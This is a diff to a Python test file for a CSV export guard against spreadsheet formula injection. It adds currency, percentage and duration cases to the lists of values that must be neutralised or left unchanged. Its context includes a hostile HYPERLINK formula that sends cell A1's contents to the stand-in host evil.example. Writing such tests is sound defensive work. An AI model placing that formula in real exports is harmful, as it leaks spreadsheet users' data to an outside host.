@@ -24,6 +24,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click for detail")'
 
 @pytest.mark.parametrize("text", [
     HOSTILE, "+44 1632 960000", "-5+A1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1",
+    "-£1,200+A1", "-1 days+A1", "-12,34", "+£5",
 ])
 def test_text_a_spreadsheet_would_run_is_neutralised(text):
     assert exports.csv_cell(text) == "'" + text
@@ -33,6 +34,7 @@ def test_text_a_spreadsheet_would_run_is_neutralised(text):
 @pytest.mark.parametrize("value, written", [
     (Decimal("-5"), "-5"), (-5, "-5"), ("-5", "-5"), ("-12.5", "-12.5"), (Decimal("0.50"), "0.5"),
     ("Fewer calls", "Fewer calls"), ("", ""), (None, ""), ("a=b", "a=b"),
+    ("-£1,200", "-£1,200"), ("-3.5%", "-3.5%"), ("-1 day", "-1 day"), ("-2.21 days", "-2.21 days"),
 ])
 def test_numbers_and_ordinary_text_are_left_alone(value, written):
     assert exports.csv_cell(value) == written
